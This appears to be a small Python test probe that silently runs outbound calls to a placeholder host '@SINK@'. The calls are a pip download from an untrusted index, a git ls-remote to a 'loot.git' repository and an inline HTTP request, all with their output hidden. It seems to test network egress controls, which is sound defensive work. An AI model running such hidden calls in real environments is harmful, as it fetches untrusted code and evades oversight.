import subprocess
import sys

INLINE = "import urllib.request; urllib.request.urlopen('http://@SINK@:8000/inline', timeout=3)"


def quietly(*command):
    subprocess.run(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20, check=False)


def act():
    index = ["--index-url", "http://@SINK@:8080/simple/", "--trusted-host", "@SINK@", "--retries", "0"]
    quietly(sys.executable, "-m", "pip", "download", *index, "left-over")
    quietly("git", "ls-remote", "http://@SINK@:8443/loot.git")
    quietly(sys.executable, "-c", INLINE, "-m", "pip", "install", "x")
